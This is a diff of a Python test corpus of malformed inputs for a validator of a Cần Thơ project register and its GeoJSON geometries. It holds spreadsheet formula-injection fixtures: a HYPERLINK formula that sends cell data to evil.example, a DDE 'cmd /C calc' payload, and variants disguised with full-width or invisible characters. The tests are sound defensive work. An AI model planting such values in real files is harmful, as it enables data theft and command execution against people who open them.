@@ -73,6 +73,7 @@ class Bad:
 
 # --- ways to break a register ----------------------------------------------------------------------
 
+
 def nothing(reg: Path, geo: Path) -> None:
     """The break is in the rows or geometries the case builds the register with."""
 
@@ -104,7 +105,7 @@ def drop_column(name: str) -> Break:
         rows = list(csv.reader(io.StringIO(register_text(reg), newline="")))
         index = rows[0].index(name)
         buffer = io.StringIO()
-        csv.writer(buffer).writerows([r[:index] + r[index + 1:] for r in rows])
+        csv.writer(buffer).writerows([r[:index] + r[index + 1 :] for r in rows])
         reg.write_text(buffer.getvalue(), encoding="utf-8", newline="")
 
     return apply
@@ -129,8 +130,10 @@ def to_cp1258(text: str) -> bytes:
     out = []
     for char in unicodedata.normalize("NFC", text):
         parts = unicodedata.normalize("NFD", char)
-        out.append(unicodedata.normalize("NFC", "".join(c for c in parts if c not in tones))
-                   + "".join(c for c in parts if c in tones))
+        out.append(
+            unicodedata.normalize("NFC", "".join(c for c in parts if c not in tones))
+            + "".join(c for c in parts if c in tones)
+        )
     return "".join(out).encode("cp1258")
 
 
@@ -173,9 +176,14 @@ def xlsx_saved_as_csv(reg: Path, geo: Path) -> None:
 
 def boundary_geometry(geometry: Any) -> Break:
     """Replace the city boundary's one feature geometry."""
+
     def apply(reg: Path, geo: Path) -> None:
-        doc = {"type": "FeatureCollection", "features": [
-            {"type": "Feature", "properties": {"name_en": "Cần Thơ City"}, "geometry": geometry}]}
+        doc = {
+            "type": "FeatureCollection",
+            "features": [
+                {"type": "Feature", "properties": {"name_en": "Cần Thơ City"}, "geometry": geometry}
+            ],
+        }
         (geo / "city_boundary.geojson").write_text(json.dumps(doc), encoding="utf-8")
 
     return apply
@@ -183,6 +191,7 @@ def boundary_geometry(geometry: Any) -> Break:
 
 def boundary_crs(name: str) -> Break:
     """Give the (valid) fixture city boundary a ``crs`` member naming ``name``."""
+
     def apply(reg: Path, geo: Path) -> None:
         path = geo / "city_boundary.geojson"
         doc = json.loads(path.read_text(encoding="utf-8"))
@@ -219,242 +228,855 @@ CORPUS: list[Bad] = [
     # structure and encoding
     Bad("semicolon-delimiter-excel-vi", redelimit(";"), "wrong_delimiter", "register", "header", ""),
     Bad("tab-delimiter", redelimit("\t"), "wrong_delimiter", "register", "header", ""),
-    Bad("ragged-row-unquoted-comma",
+    Bad(
+        "ragged-row-unquoted-comma",
         rewrite(lambda t: t.replace("Cảng Cái Cui,", "Cảng Cái Cui, Cái Răng,", 1)),
-        "ragged_row", "register", R3, "", also=("orphan_geometry",)),
-    Bad("ragged-row-short", rewrite(lambda t: t.replace("\r\nkcn-o-mon", "\r\nkcn-o-mon,x\r\nkcn-o-mon", 1)),
-        "ragged_row", "register", "row 2 (id kcn-o-mon)", ""),
+        "ragged_row",
+        "register",
+        R3,
+        "",
+        also=("orphan_geometry",),
+    ),
+    Bad(
+        "ragged-row-short",
+        rewrite(lambda t: t.replace("\r\nkcn-o-mon", "\r\nkcn-o-mon,x\r\nkcn-o-mon", 1)),
+        "ragged_row",
+        "register",
+        "row 2 (id kcn-o-mon)",
+        "",
+    ),
     Bad("utf8-bom-excel", rewrite(lambda t: b"\xef\xbb\xbf" + t.encode()), "bom", "register", "line 1", ""),
     Bad("windows-1258", rewrite(to_cp1258), "not_utf8", "register", "line 2", ""),
-    Bad("latin-1", rewrite(lambda t: t.replace("Nâng cấp, mở rộng Đường tỉnh", "Nâng").encode("latin-1",
-                                                                                             "replace")),
-        "not_utf8", "register", "line 2", ""),
+    Bad(
+        "latin-1",
+        rewrite(lambda t: t.replace("Nâng cấp, mở rộng Đường tỉnh", "Nâng").encode("latin-1", "replace")),
+        "not_utf8",
+        "register",
+        "line 2",
+        "",
+    ),
     Bad("utf-16-unicode-text", rewrite(lambda t: t.encode("utf-16")), "not_utf8", "register", "line 1", ""),
     Bad("xlsx-saved-as-csv", xlsx_saved_as_csv, "not_text", "register", "", ""),
     Bad("empty-register", rewrite(lambda t: b""), "empty_file", "register", "", ""),
     Bad("register-over-50mb", oversize, "too_large", "register", "", ""),
-    Bad("broken-quote", rewrite(lambda t: t.replace("Cảng Cái Cui", '"Cảng" Cái Cui', 1)), "csv_syntax",
-        "register", "line 4", ""),
-    Bad("nfd-vietnamese", nothing, "not_nfc", "register", R1, "name_vi",
-        rows=rows_with(name_vi=unicodedata.normalize("NFD", "Nâng cấp, mở rộng Đường tỉnh 923"))),
+    Bad(
+        "broken-quote",
+        rewrite(lambda t: t.replace("Cảng Cái Cui", '"Cảng" Cái Cui', 1)),
+        "csv_syntax",
+        "register",
+        "line 4",
+        "",
+    ),
+    Bad(
+        "nfd-vietnamese",
+        nothing,
+        "not_nfc",
+        "register",
+        R1,
+        "name_vi",
+        rows=rows_with(name_vi=unicodedata.normalize("NFD", "Nâng cấp, mở rộng Đường tỉnh 923")),
+    ),
     # columns
-    Bad("missing-column", drop_column("funding_type"), "missing_column", "register", "header",
-        "funding_type"),
-    Bad("duplicated-column", add_column("status", "planned"), "duplicate_column", "register", "header",
-        "status"),
-    Bad("unknown-column", add_column("budget_vnd", "1000"), "unknown_column", "register", "header",
-        "budget_vnd"),
-    Bad("column-name-with-space", rename_column(",status,", ", status,"), "unknown_column", "register",
-        "header", " status", also=("missing_column",)),
+    Bad(
+        "missing-column", drop_column("funding_type"), "missing_column", "register", "header", "funding_type"
+    ),
+    Bad(
+        "duplicated-column",
+        add_column("status", "planned"),
+        "duplicate_column",
+        "register",
+        "header",
+        "status",
+    ),
+    Bad(
+        "unknown-column",
+        add_column("budget_vnd", "1000"),
+        "unknown_column",
+        "register",
+        "header",
+        "budget_vnd",
+    ),
+    Bad(
+        "column-name-with-space",
+        rename_column(",status,", ", status,"),
+        "unknown_column",
+        "register",
+        "header",
+        " status",
+        also=("missing_column",),
+    ),
     # years
-    Bad("year-as-text", nothing, "bad_year", "register", R1, "period_start",
-        rows=rows_with(period_start="năm 2021")),
-    Bad("year-as-excel-float", nothing, "bad_year", "register", R1, "period_end",
-        rows=rows_with(period_end="2025.0")),
-    Bad("start-after-end", nothing, "period_order", "register", R1, "period_start",
-        rows=rows_with(period_start="2030", period_end="2021")),
-    Bad("year-1890", nothing, "implausible_year", "register", R1, "period_start",
-        rows=rows_with(period_start="1890")),
-    Bad("year-2200", nothing, "implausible_year", "register", R1, "period_end",
-        rows=rows_with(period_end="2200")),
+    Bad(
+        "year-as-text",
+        nothing,
+        "bad_year",
+        "register",
+        R1,
+        "period_start",
+        rows=rows_with(period_start="năm 2021"),
+    ),
+    Bad(
+        "year-as-excel-float",
+        nothing,
+        "bad_year",
+        "register",
+        R1,
+        "period_end",
+        rows=rows_with(period_end="2025.0"),
+    ),
+    Bad(
+        "start-after-end",
+        nothing,
+        "period_order",
+        "register",
+        R1,
+        "period_start",
+        rows=rows_with(period_start="2030", period_end="2021"),
+    ),
+    Bad(
+        "year-1890",
+        nothing,
+        "implausible_year",
+        "register",
+        R1,
+        "period_start",
+        rows=rows_with(period_start="1890"),
+    ),
+    Bad(
+        "year-2200",
+        nothing,
+        "implausible_year",
+        "register",
+        R1,
+        "period_end",
+        rows=rows_with(period_end="2200"),
+    ),
     # vocabularies
-    Bad("unknown-status", nothing, "unknown_value", "register", R1, "status",
-        rows=rows_with(status="ongoing")),
-    Bad("status-as-vietnamese-label", nothing, "unknown_value", "register", R1, "status",
-        rows=rows_with(status="Đang thi công")),
-    Bad("unknown-sector", nothing, "unknown_value", "register", R1, "sector",
-        rows=rows_with(sector="highway")),
-    Bad("unknown-funding-type", nothing, "unknown_value", "register", R1, "funding_type",
-        rows=rows_with(funding_type="BOT")),
+    Bad(
+        "unknown-status", nothing, "unknown_value", "register", R1, "status", rows=rows_with(status="ongoing")
+    ),
+    Bad(
+        "status-as-vietnamese-label",
+        nothing,
+        "unknown_value",
+        "register",
+        R1,
+        "status",
+        rows=rows_with(status="Đang thi công"),
+    ),
+    Bad(
+        "unknown-sector", nothing, "unknown_value", "register", R1, "sector", rows=rows_with(sector="highway")
+    ),
+    Bad(
+        "unknown-funding-type",
+        nothing,
+        "unknown_value",
+        "register",
+        R1,
+        "funding_type",
+        rows=rows_with(funding_type="BOT"),
+    ),
     # ids
-    Bad("duplicate-id", nothing, "duplicate_id", "register", "row 2 (id dt-923)", "id",
-        rows=[base_row(), base_row(name_en="Copy of 923"), *fixture_rows()[1:]]),
-    Bad("empty-id", nothing, "required", "register", "row 1", "id", rows=rows_with(id=""),
-        also=("orphan_geometry",)),
+    Bad(
+        "duplicate-id",
+        nothing,
+        "duplicate_id",
+        "register",
+        "row 2 (id dt-923)",
+        "id",
+        rows=[base_row(), base_row(name_en="Copy of 923"), *fixture_rows()[1:]],
+    ),
+    Bad(
+        "empty-id",
+        nothing,
+        "required",
+        "register",
+        "row 1",
+        "id",
+        rows=rows_with(id=""),
+        also=("orphan_geometry",),
+    ),
     # other cells
-    Bad("formula-hyperlink", nothing, "formula", "register", R1, "name_en",
-        rows=rows_with(name_en='=HYPERLINK("http://evil.example/?"&A1,"Đường 923")')),
-    Bad("formula-at-sum", nothing, "formula", "register", R2, "notes", rows=rows_with(1,
-        notes="@SUM(1+1)*cmd|' /C calc'!A0")),
+    Bad(
+        "formula-hyperlink",
+        nothing,
+        "formula",
+        "register",
+        R1,
+        "name_en",
+        rows=rows_with(name_en='=HYPERLINK("http://evil.example/?"&A1,"Đường 923")'),
+    ),
+    Bad(
+        "formula-at-sum",
+        nothing,
+        "formula",
+        "register",
+        R2,
+        "notes",
+        rows=rows_with(1, notes="@SUM(1+1)*cmd|' /C calc'!A0"),
+    ),
     # issue 11: one rule for validation and export (portfolio._formula)
-    *(Bad(f"formula-{label}", nothing, "formula", "register", R1, column, rows=rows_with(**{column: value}),
-          also=("whitespace",))
-      for label, column, value in (
-          ("no-break-space-equals", "name_en", "\u00a0=HYPERLINK(\"http://evil.example\")"),
-          ("space-equals", "name_en", " =1+1"),
-          ("ideographic-space-minus", "location_vi", "\u3000-2+3"),
-          ("fullwidth-equals", "name_en", "＝HYPERLINK(\"http://evil.example\")"),
-          ("fullwidth-plus", "owner", "＋84 292 3820 123"),
-          ("fullwidth-minus", "location_vi", "－1+1"),
-          ("fullwidth-at", "notes", "＠SUM(A1:A9)"),
-          ("semicolon-equals", "notes", "Xem thêm; =HYPERLINK(\"http://evil.example\")"),
-          ("comma-equals", "location_vi", "Ninh Kiều,=1+1"),
-          ("semicolon-fullwidth-equals", "notes", "ghi chú;　＝1+1"),
-      )),
-    Bad("date-dd-mm-yyyy", nothing, "bad_date", "register", R1, "status_as_of",
-        rows=rows_with(status_as_of="01/10/2021")),
-    Bad("decimal-comma", nothing, "bad_number", "register", R2, "official_area_ha",
-        rows=rows_with(1, official_area_ha="45,5")),
-    Bad("alt-enter-in-name", nothing, "control_char", "register", R1, "name_vi",
-        rows=rows_with(name_vi="Nâng cấp Đường tỉnh 923\n(giai đoạn 2)")),
+    *(
+        Bad(
+            f"formula-{label}",
+            nothing,
+            "formula",
+            "register",
+            R1,
+            column,
+            rows=rows_with(**{column: value}),
+            also=("whitespace",),
+        )
+        for label, column, value in (
+            ("no-break-space-equals", "name_en", '\u00a0=HYPERLINK("http://evil.example")'),
+            ("space-equals", "name_en", " =1+1"),
+            ("ideographic-space-minus", "location_vi", "\u3000-2+3"),
+            ("fullwidth-equals", "name_en", '＝HYPERLINK("http://evil.example")'),
+            ("fullwidth-plus", "owner", "＋84 292 3820 123"),
+            ("fullwidth-minus", "location_vi", "－1+1"),
+            ("fullwidth-at", "notes", "＠SUM(A1:A9)"),
+            ("semicolon-equals", "notes", 'Xem thêm; =HYPERLINK("http://evil.example")'),
+            ("comma-equals", "location_vi", "Ninh Kiều,=1+1"),
+            ("semicolon-fullwidth-equals", "notes", "ghi chú;　＝1+1"),
+        )
+    ),
+    Bad(
+        "date-dd-mm-yyyy",
+        nothing,
+        "bad_date",
+        "register",
+        R1,
+        "status_as_of",
+        rows=rows_with(status_as_of="01/10/2021"),
+    ),
+    Bad(
+        "decimal-comma",
+        nothing,
+        "bad_number",
+        "register",
+        R2,
+        "official_area_ha",
+        rows=rows_with(1, official_area_ha="45,5"),
+    ),
+    Bad(
+        "alt-enter-in-name",
+        nothing,
+        "control_char",
+        "register",
+        R1,
+        "name_vi",
+        rows=rows_with(name_vi="Nâng cấp Đường tỉnh 923\n(giai đoạn 2)"),
+    ),
     # numbers: one plain form (ASCII digits, at most one '.'); anything float() or pandas would also take
     # differently is refused with the row and column, never an internal error
-    Bad("number-with-underscore", nothing, "bad_number", "register", R1, "official_length_km",
-        rows=rows_with(official_length_km="1_9.3")),
-    Bad("number-arabic-indic-digits", nothing, "bad_number", "register", R2, "official_area_ha",
-        rows=rows_with(1, official_area_ha="\u0664\u0665")),
-    Bad("number-full-width-digits", nothing, "bad_number", "register", R1, "official_length_km",
-        rows=rows_with(official_length_km="\uff11\uff12.\uff15")),
-    Bad("number-exponent", nothing, "bad_number", "register", R1, "official_length_km",
-        rows=rows_with(official_length_km="1e3")),
-    Bad("number-nan", nothing, "bad_number", "register", R1, "official_length_km",
-        rows=rows_with(official_length_km="NaN")),
-    Bad("number-infinity", nothing, "bad_number", "register", R2, "official_area_ha",
-        rows=rows_with(1, official_area_ha="inf")),
-    Bad("number-plus-sign", nothing, "bad_number", "register", R1, "official_length_km",
-        rows=rows_with(official_length_km="+12")),
-    Bad("number-trailing-dot", nothing, "bad_number", "register", R1, "official_length_km",
-        rows=rows_with(official_length_km="12.")),
-    Bad("number-400-digits", nothing, "bad_number", "register", R1, "official_length_km",
-        rows=rows_with(official_length_km="9" * 400)),
-    Bad("number-padded-with-spaces", nothing, "whitespace", "register", R1, "official_length_km",
-        rows=rows_with(official_length_km=" 12 ")),
-    Bad("year-arabic-indic-digits", nothing, "bad_year", "register", R1, "period_start",
-        rows=rows_with(period_start="\u0662\u0660\u0662\u0661")),
-    Bad("year-with-underscore", nothing, "bad_year", "register", R1, "period_end",
-        rows=rows_with(period_end="2_025")),
-    Bad("history-year-full-width", nothing, "bad_period_history", "register", R1, "period_history",
-        rows=rows_with(period_history="202/KH-UBND=\uff12\uff10\uff12\uff11-2025")),
+    Bad(
+        "number-with-underscore",
+        nothing,
+        "bad_number",
+        "register",
+        R1,
+        "official_length_km",
+        rows=rows_with(official_length_km="1_9.3"),
+    ),
+    Bad(
+        "number-arabic-indic-digits",
+        nothing,
+        "bad_number",
+        "register",
+        R2,
+        "official_area_ha",
+        rows=rows_with(1, official_area_ha="\u0664\u0665"),
+    ),
+    Bad(
+        "number-full-width-digits",
+        nothing,
+        "bad_number",
+        "register",
+        R1,
+        "official_length_km",
+        rows=rows_with(official_length_km="\uff11\uff12.\uff15"),
+    ),
+    Bad(
+        "number-exponent",
+        nothing,
+        "bad_number",
+        "register",
+        R1,
+        "official_length_km",
+        rows=rows_with(official_length_km="1e3"),
+    ),
+    Bad(
+        "number-nan",
+        nothing,
+        "bad_number",
+        "register",
+        R1,
+        "official_length_km",
+        rows=rows_with(official_length_km="NaN"),
+    ),
+    Bad(
+        "number-infinity",
+        nothing,
+        "bad_number",
+        "register",
+        R2,
+        "official_area_ha",
+        rows=rows_with(1, official_area_ha="inf"),
+    ),
+    Bad(
+        "number-plus-sign",
+        nothing,
+        "bad_number",
+        "register",
+        R1,
+        "official_length_km",
+        rows=rows_with(official_length_km="+12"),
+    ),
+    Bad(
+        "number-trailing-dot",
+        nothing,
+        "bad_number",
+        "register",
+        R1,
+        "official_length_km",
+        rows=rows_with(official_length_km="12."),
+    ),
+    Bad(
+        "number-400-digits",
+        nothing,
+        "bad_number",
+        "register",
+        R1,
+        "official_length_km",
+        rows=rows_with(official_length_km="9" * 400),
+    ),
+    Bad(
+        "number-padded-with-spaces",
+        nothing,
+        "whitespace",
+        "register",
+        R1,
+        "official_length_km",
+        rows=rows_with(official_length_km=" 12 "),
+    ),
+    Bad(
+        "year-arabic-indic-digits",
+        nothing,
+        "bad_year",
+        "register",
+        R1,
+        "period_start",
+        rows=rows_with(period_start="\u0662\u0660\u0662\u0661"),
+    ),
+    Bad(
+        "year-with-underscore",
+        nothing,
+        "bad_year",
+        "register",
+        R1,
+        "period_end",
+        rows=rows_with(period_end="2_025"),
+    ),
+    Bad(
+        "history-year-full-width",
+        nothing,
+        "bad_period_history",
+        "register",
+        R1,
+        "period_history",
+        rows=rows_with(period_history="202/KH-UBND=\uff12\uff10\uff12\uff11-2025"),
+    ),
     # period_history against the period columns (README: columns as the most recent source gives them,
     # or as Phụ lục II of 202/KH-UBND does for its rows; history oldest first)
-    Bad("history-reversed", nothing, "period_history_order", "register", R1, "period_history",
-        rows=rows_with(period_history="KH-UBND/2026=2026-2030; 202/KH-UBND=2021-2025")),
-    Bad("history-outside-entries-reversed", nothing, "period_history_order", "register", R1, "period_history",
-        rows=rows_with(period_start="2023", period_end="2026", sources="KH-UBND/2026 (01/2026), mục II.4.2",
-                       period_history="ngoài: PLO 2026-02-24=2023-2026; ngoài: CafeF 2025-07-22=2023-2026")),
-    Bad("history-date-day-first", nothing, "period_history_date", "register", R1, "period_history",
-        rows=rows_with(period_start="2023", period_end="2026", sources="KH-UBND/2026 (01/2026), mục II.4.2",
-                       period_history="ngoài: CafeF 22/07/2025=2023-2026")),
-    Bad("history-date-month-13", nothing, "period_history_date", "register", R1, "period_history",
-        rows=rows_with(period_start="2023", period_end="2026", sources="KH-UBND/2026 (01/2026), mục II.4.2",
-                       period_history="ngoài: CafeF 2025-13=2023-2026")),
-    Bad("period-not-in-history", nothing, "period_not_in_history", "register", R1, "period_start",
-        rows=rows_with(period_start="2025", period_end="2028", sources="KH-UBND/2026 (01/2026), mục II.4.2",
-                       period_history="ngoài: Báo A 2020=2015-2018")),
-    Bad("history-without-period", nothing, "period_not_in_history", "register", R1, "period_start",
-        rows=rows_with(period_start="", period_end="", period_history="202/KH-UBND=2021-2025")),
-    Bad("period-is-an-older-entry", nothing, "period_not_current", "register", R1, "period_start",
-        rows=rows_with(sources="KH-UBND/2026 (01/2026), mục II.4.2",
-                       period_history="202/KH-UBND=2021-2025; KH-UBND/2026=2026-2030")),
-    Bad("annex-ii-row-holds-a-newer-period", nothing, "period_not_current", "register", R1, "period_start",
-        rows=rows_with(period_start="2025", period_end="2030",
-                       period_history="202/KH-UBND=2021-2025; ngoài: VnExpress 2025-09-15=2025-2030")),
-    Bad("precision-leading-zero", nothing, "bad_precision", "register", R1, "geocode_precision",
-        rows=rows_with(geocode_precision="02")),
-    Bad("precision-full-width", nothing, "bad_precision", "register", R1, "geocode_precision",
-        rows=rows_with(geocode_precision="\uff12")),
+    Bad(
+        "history-reversed",
+        nothing,
+        "period_history_order",
+        "register",
+        R1,
+        "period_history",
+        rows=rows_with(period_history="KH-UBND/2026=2026-2030; 202/KH-UBND=2021-2025"),
+    ),
+    Bad(
+        "history-outside-entries-reversed",
+        nothing,
+        "period_history_order",
+        "register",
+        R1,
+        "period_history",
+        rows=rows_with(
+            period_start="2023",
+            period_end="2026",
+            sources="KH-UBND/2026 (01/2026), mục II.4.2",
+            period_history="ngoài: PLO 2026-02-24=2023-2026; ngoài: CafeF 2025-07-22=2023-2026",
+        ),
+    ),
+    Bad(
+        "history-date-day-first",
+        nothing,
+        "period_history_date",
+        "register",
+        R1,
+        "period_history",
+        rows=rows_with(
+            period_start="2023",
+            period_end="2026",
+            sources="KH-UBND/2026 (01/2026), mục II.4.2",
+            period_history="ngoài: CafeF 22/07/2025=2023-2026",
+        ),
+    ),
+    Bad(
+        "history-date-month-13",
+        nothing,
+        "period_history_date",
+        "register",
+        R1,
+        "period_history",
+        rows=rows_with(
+            period_start="2023",
+            period_end="2026",
+            sources="KH-UBND/2026 (01/2026), mục II.4.2",
+            period_history="ngoài: CafeF 2025-13=2023-2026",
+        ),
+    ),
+    Bad(
+        "period-not-in-history",
+        nothing,
+        "period_not_in_history",
+        "register",
+        R1,
+        "period_start",
+        rows=rows_with(
+            period_start="2025",
+            period_end="2028",
+            sources="KH-UBND/2026 (01/2026), mục II.4.2",
+            period_history="ngoài: Báo A 2020=2015-2018",
+        ),
+    ),
+    Bad(
+        "history-without-period",
+        nothing,
+        "period_not_in_history",
+        "register",
+        R1,
+        "period_start",
+        rows=rows_with(period_start="", period_end="", period_history="202/KH-UBND=2021-2025"),
+    ),
+    Bad(
+        "period-is-an-older-entry",
+        nothing,
+        "period_not_current",
+        "register",
+        R1,
+        "period_start",
+        rows=rows_with(
+            sources="KH-UBND/2026 (01/2026), mục II.4.2",
+            period_history="202/KH-UBND=2021-2025; KH-UBND/2026=2026-2030",
+        ),
+    ),
+    Bad(
+        "annex-ii-row-holds-a-newer-period",
+        nothing,
+        "period_not_current",
+        "register",
+        R1,
+        "period_start",
+        rows=rows_with(
+            period_start="2025",
+            period_end="2030",
+            period_history="202/KH-UBND=2021-2025; ngoài: VnExpress 2025-09-15=2025-2030",
+        ),
+    ),
+    Bad(
+        "precision-leading-zero",
+        nothing,
+        "bad_precision",
+        "register",
+        R1,
+        "geocode_precision",
+        rows=rows_with(geocode_precision="02"),
+    ),
+    Bad(
+        "precision-full-width",
+        nothing,
+        "bad_precision",
+        "register",
+        R1,
+        "geocode_precision",
+        rows=rows_with(geocode_precision="\uff12"),
+    ),
     # control characters: none in any cell; line breaks only in notes
-    Bad("tab-in-name", nothing, "control_char", "register", R1, "name_vi",
-        rows=rows_with(name_vi="Nâng cấp\tĐường tỉnh 923")),
-    Bad("tab-in-notes", nothing, "control_char", "register", R2, "notes",
-        rows=rows_with(1, notes="Diện tích\t300 ha")),
-    Bad("c1-next-line-in-location", nothing, "control_char", "register", R3, "location_vi",
-        rows=rows_with(2, location_vi="Cái\x85Cui")),
-    Bad("c1-csi-in-owner", nothing, "control_char", "register", R1, "owner",
-        rows=rows_with(owner="Sở\x9b31mGiao thông vận tải")),
-    Bad("line-separator-in-name", nothing, "control_char", "register", R1, "name_en",
-        rows=rows_with(name_en="Provincial road\u2028923")),
-    Bad("zero-width-space-in-id-like-name", nothing, "control_char", "register", R1, "name_vi",
-        rows=rows_with(name_vi="Đường tỉnh\u200b923")),
-    Bad("rtl-override-in-owner", nothing, "control_char", "register", R2, "owner",
-        rows=rows_with(1, owner="Sở Xây dựng\u202e")),
-    Bad("bom-inside-a-cell", nothing, "control_char", "register", R3, "location_vi",
-        rows=rows_with(2, location_vi="\ufeffCái Răng")),
+    Bad(
+        "tab-in-name",
+        nothing,
+        "control_char",
+        "register",
+        R1,
+        "name_vi",
+        rows=rows_with(name_vi="Nâng cấp\tĐường tỉnh 923"),
+    ),
+    Bad(
+        "tab-in-notes",
+        nothing,
+        "control_char",
+        "register",
+        R2,
+        "notes",
+        rows=rows_with(1, notes="Diện tích\t300 ha"),
+    ),
+    Bad(
+        "c1-next-line-in-location",
+        nothing,
+        "control_char",
+        "register",
+        R3,
+        "location_vi",
+        rows=rows_with(2, location_vi="Cái\x85Cui"),
+    ),
+    Bad(
+        "c1-csi-in-owner",
+        nothing,
+        "control_char",
+        "register",
+        R1,
+        "owner",
+        rows=rows_with(owner="Sở\x9b31mGiao thông vận tải"),
+    ),
+    Bad(
+        "line-separator-in-name",
+        nothing,
+        "control_char",
+        "register",
+        R1,
+        "name_en",
+        rows=rows_with(name_en="Provincial road\u2028923"),
+    ),
+    Bad(
+        "zero-width-space-in-id-like-name",
+        nothing,
+        "control_char",
+        "register",
+        R1,
+        "name_vi",
+        rows=rows_with(name_vi="Đường tỉnh\u200b923"),
+    ),
+    Bad(
+        "rtl-override-in-owner",
+        nothing,
+        "control_char",
+        "register",
+        R2,
+        "owner",
+        rows=rows_with(1, owner="Sở Xây dựng\u202e"),
+    ),
+    Bad(
+        "bom-inside-a-cell",
+        nothing,
+        "control_char",
+        "register",
+        R3,
+        "location_vi",
+        rows=rows_with(2, location_vi="\ufeffCái Răng"),
+    ),
     # encodings without a byte-order mark, and UTF-32
     Bad("utf-16le-no-bom", rewrite(lambda t: t.encode("utf-16-le")), "not_utf8", "register", "line 1", ""),
     Bad("utf-16be-no-bom", rewrite(lambda t: t.encode("utf-16-be")), "not_utf8", "register", "line 1", ""),
     Bad("utf-32-with-bom", rewrite(lambda t: t.encode("utf-32")), "not_utf8", "register", "line 1", ""),
     Bad("utf-32le-no-bom", rewrite(lambda t: t.encode("utf-32-le")), "not_utf8", "register", "line 1", ""),
-    Bad("utf-8-cut-mid-character", rewrite(lambda t: (t + "Cầ").encode()[:-1]), "not_utf8", "register",
-        "line 5", ""),
-    Bad("geodata-utf-16le-no-bom", reencode_geodata("utf-16-le"), "not_utf8", "geodata",
-        "line 1", ""),
+    Bad(
+        "utf-8-cut-mid-character",
+        rewrite(lambda t: (t + "Cầ").encode()[:-1]),
+        "not_utf8",
+        "register",
+        "line 5",
+        "",
+    ),
+    Bad("geodata-utf-16le-no-bom", reencode_geodata("utf-16-le"), "not_utf8", "geodata", "line 1", ""),
     # giant cells
-    Bad("notes-over-csv-field-limit", nothing, "cell_too_long", "register", R2, "notes",
-        rows=rows_with(1, notes="Ghi chú. " * 20_000)),
-    Bad("name-over-excel-cell-limit", nothing, "cell_too_long", "register", R1, "name_en",
-        rows=rows_with(name_en="x" * 32_768)),
+    Bad(
+        "notes-over-csv-field-limit",
+        nothing,
+        "cell_too_long",
+        "register",
+        R2,
+        "notes",
+        rows=rows_with(1, notes="Ghi chú. " * 20_000),
+    ),
+    Bad(
+        "name-over-excel-cell-limit",
+        nothing,
+        "cell_too_long",
+        "register",
+        R1,
+        "name_en",
+        rows=rows_with(name_en="x" * 32_768),
+    ),
     # geometry
-    Bad("geometry-missing", nothing, "missing_geometry", "geodata", "id kcn-o-mon", "geometry",
-        geometries=geometries_with(kcn_o_mon=None)),
-    Bad("geometry-extra", nothing, "orphan_geometry", "geodata", "id cau-tran-hoang-na", "id",
-        geometries=geometries_with(cau_tran_hoang_na={"type": "Point", "coordinates": [105.77, 10.02]})),
-    Bad("geometry-duplicated", geodata_json(duplicate_feature), "duplicate_geometry", "geodata", "id dt-923",
-        "geometry"),
-    Bad("geometry-empty", nothing, "empty_geometry", "geodata", "id dt-923", "geometry",
-        geometries=geometries_with(dt_923={"type": "LineString", "coordinates": []})),
-    Bad("geometry-null", nothing, "missing_geometry", "geodata", "id cang-cai-cui", "geometry",
-        geometries=geometries_with(cang_cai_cui=None) | {"cang-cai-cui": None}),
-    Bad("self-intersecting-polygon", nothing, "invalid_geometry", "geodata", "id kcn-o-mon", "geometry",
-        geometries=geometries_with(kcn_o_mon={"type": "Polygon", "coordinates": [[
-            [105.60, 10.10], [105.62, 10.12], [105.62, 10.10], [105.60, 10.12], [105.60, 10.10]]]})),
-    Bad("unclosed-ring", nothing, "unclosed_ring", "geodata", "id kcn-o-mon", "geometry",
-        geometries=geometries_with(kcn_o_mon={"type": "Polygon", "coordinates": [[
-            [105.60, 10.10], [105.62, 10.10], [105.62, 10.12], [105.60, 10.12]]]})),
-    Bad("lat-lon-swapped", nothing, "swapped_coordinates", "geodata", "id dt-923", "geometry",
-        geometries=geometries_with(dt_923={"type": "LineString", "coordinates": [[y, x] for x, y in LINE]})),
-    Bad("vn2000-metres-labelled-wgs84", nothing, "projected_coordinates", "geodata", "id cang-cai-cui",
+    Bad(
+        "geometry-missing",
+        nothing,
+        "missing_geometry",
+        "geodata",
+        "id kcn-o-mon",
         "geometry",
-        geometries=geometries_with(cang_cai_cui={"type": "Point", "coordinates": [593605.2, 1104877.9]})),
+        geometries=geometries_with(kcn_o_mon=None),
+    ),
+    Bad(
+        "geometry-extra",
+        nothing,
+        "orphan_geometry",
+        "geodata",
+        "id cau-tran-hoang-na",
+        "id",
+        geometries=geometries_with(cau_tran_hoang_na={"type": "Point", "coordinates": [105.77, 10.02]}),
+    ),
+    Bad(
+        "geometry-duplicated",
+        geodata_json(duplicate_feature),
+        "duplicate_geometry",
+        "geodata",
+        "id dt-923",
+        "geometry",
+    ),
+    Bad(
+        "geometry-empty",
+        nothing,
+        "empty_geometry",
+        "geodata",
+        "id dt-923",
+        "geometry",
+        geometries=geometries_with(dt_923={"type": "LineString", "coordinates": []}),
+    ),
+    Bad(
+        "geometry-null",
+        nothing,
+        "missing_geometry",
+        "geodata",
+        "id cang-cai-cui",
+        "geometry",
+        geometries=geometries_with(cang_cai_cui=None) | {"cang-cai-cui": None},
+    ),
+    Bad(
+        "self-intersecting-polygon",
+        nothing,
+        "invalid_geometry",
+        "geodata",
+        "id kcn-o-mon",
+        "geometry",
+        geometries=geometries_with(
+            kcn_o_mon={
+                "type": "Polygon",
+                "coordinates": [
+                    [[105.60, 10.10], [105.62, 10.12], [105.62, 10.10], [105.60, 10.12], [105.60, 10.10]]
+                ],
+            }
+        ),
+    ),
+    Bad(
+        "unclosed-ring",
+        nothing,
+        "unclosed_ring",
+        "geodata",
+        "id kcn-o-mon",
+        "geometry",
+        geometries=geometries_with(
+            kcn_o_mon={
+                "type": "Polygon",
+                "coordinates": [[[105.60, 10.10], [105.62, 10.10], [105.62, 10.12], [105.60, 10.12]]],
+            }
+        ),
+    ),
+    Bad(
+        "lat-lon-swapped",
+        nothing,
+        "swapped_coordinates",
+        "geodata",
+        "id dt-923",
+        "geometry",
+        geometries=geometries_with(dt_923={"type": "LineString", "coordinates": [[y, x] for x, y in LINE]}),
+    ),
+    Bad(
+        "vn2000-metres-labelled-wgs84",
+        nothing,
+        "projected_coordinates",
+        "geodata",
+        "id cang-cai-cui",
+        "geometry",
+        geometries=geometries_with(cang_cai_cui={"type": "Point", "coordinates": [593605.2, 1104877.9]}),
+    ),
     Bad("crs-member-vn2000-utm", with_crs("urn:ogc:def:crs:EPSG::3405"), "wrong_crs", "geodata", "", "crs"),
-    Bad("point-at-1e300", nothing, "projected_coordinates", "geodata", "id cang-cai-cui", "geometry",
